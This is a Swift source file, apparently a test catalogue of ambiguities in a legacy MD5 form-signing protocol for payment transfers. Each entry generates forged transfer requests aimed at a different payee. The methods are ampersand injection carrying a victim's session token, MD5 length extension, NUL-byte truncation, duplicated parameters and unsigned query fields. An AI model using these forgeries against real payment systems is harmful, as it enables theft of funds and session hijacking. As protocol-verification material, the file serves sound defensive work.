import CountersignWire

/// What form-md5 leaves open. Source: docs/protocol.md, "form-md5", and legacy's flaws of it.
enum FormMD5Ambiguities {
    static let all = [
        Ambiguity(
            "ampersand-in-value",
            "has its own app sign a payee that holds the victim's session, and reads it as parameters",
            bait: .ownTransfer(payee: bait), apply: recut),
        Ambiguity(
            "length-extension",
            "carries the MD5 on behind its own padding, with a payee of its own, for each length of the key",
            apply: extended),
        Ambiguity("bytes-after-nul", "hides digits of the amount, or another payee, behind a NUL", apply: afterNUL),
        Ambiguity("parameter-twice", "names a second payee", apply: twice),
        Ambiguity("query-of-a-post", "names another payee in the query, which a POST does not sign", apply: besideForm),
    ]

    private static let join = UnescapedJoin { $0 == "sign" }

    /// All that is sorted behind `to`, with the victim's session in it; `w` takes up what the app itself adds.
    private static func bait(_ order: Order, _ token: CapturedToken?) -> String? {
        token.map { "\(order.payee)&token=\($0.token)&userId=\($0.userID)&ver=\(Setting.version)&w=" }
    }

    private static func recut(_ request: RawRequest, _ order: Order) -> [RawRequest] {
        guard let form = join.recut(request.parameters) else { return [] }
        return [request.with(form)]
    }

    /// What stands behind `private_key` in the signed text goes into `rand`, padding and all, and comes once more behind it, changed. Of
    /// the key only the length has to be known.
    private static func extended(_ request: RawRequest, _ order: Order) -> [RawRequest] {
        let signed = join.sorted(request.parameters)
        guard let digest = request.parameters["sign"].flatMap(Hex.decode), let rand = request.parameters["rand"],
            let index = signed.firstIndex(where: { $0.name == "rand" })
        else { return [] }
        let behind = Array(signed[(index + 1)...])
        var changed = RawForm(behind)
        changed["to"] = order.payee
        let more = UnescapedJoin.text(changed.pairs, leading: true)
        let known = UnescapedJoin.text(signed).count + "&private_key=".utf8.count
        var requests: [RawRequest] = []
        for length in 1...64 {
            let (count, start) = (known + length, Array(rand.utf8) + UnescapedJoin.text(behind, leading: true))
            guard let sign = MD5Extension.digest(continuing: digest, of: count, with: more) else { continue }
            let swallowed = RawForm.Pair("rand", start + MD5Extension.padding(behind: count))
            let pairs = signed[..<index] + [swallowed] + changed.pairs + [.init("sign", Hex.encode(sign.span))]
            requests.append(request.with(RawForm(Array(pairs))))
        }
        return requests
    }

    private static func afterNUL(_ request: RawRequest, _ order: Order) -> [RawRequest] {
        guard let amount = request.parameters["amount"], let payee = request.parameters["to"] else { return [] }
        var (more, other) = (request.parameters, request.parameters)
        more["amount"] = "\(amount)\0\(order.amount)"
        other["to"] = "\(payee)\0\(order.payee)"
        // A NUL as it is, at which a body ends for who takes it for a C string.
        var behind = request
        behind.body += [0] + Array("&to=\(order.payee)".utf8)
        return [request.with(more), request.with(other), behind]
    }

    private static func twice(_ request: RawRequest, _ order: Order) -> [RawRequest] {
        guard let payee = request.parameters["to"] else { return [] }
        let (genuine, other) = (RawForm.Pair("to", payee), RawForm.Pair("to", order.payee))
        let rest = request.parameters.pairs.filter { $0.name != "to" }
        return [request.with(RawForm([genuine, other] + rest)), request.with(RawForm([other, genuine] + rest))]
    }

    private static func besideForm(_ request: RawRequest, _ order: Order) -> [RawRequest] {
        guard request.bodyForm != nil else { return [] }
        var copy = request
        copy.queryForm = RawForm([.init("to", order.payee), .init("amount", "\(order.amount)")])
        return [copy]
    }
}

extension RawRequest {
    /// The same with other parameters, in the place where they are.
    func with(_ form: RawForm) -> RawRequest {
        var copy = self
        copy.parameters = form
        return copy
    }
}
